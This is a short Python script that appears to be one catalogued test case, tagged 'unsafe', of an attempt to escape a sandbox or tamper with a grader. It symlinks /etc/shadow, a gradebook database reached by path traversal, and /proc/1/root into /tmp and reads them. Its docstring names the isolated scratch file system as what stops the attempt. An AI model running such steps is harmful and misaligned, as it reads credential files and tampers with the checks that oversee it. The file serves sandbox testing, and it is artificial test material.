"""Make links to the grader's files in the scratch folder, for something trusted to follow.

Stopped by: the scratch is in a file system of its own; nothing outside ever looks into it.

where: first
stock: unsafe
"""

import os

for target in ("/etc/shadow", "../../../gradebook.db", "/proc/1/root"):
    name = f"/tmp/left-behind-by-an-attack-{os.path.basename(target)}"
    try:
        os.symlink(target, name)
        print(open(name).read()[:100])
    except OSError as error:
        print(error.strerror)
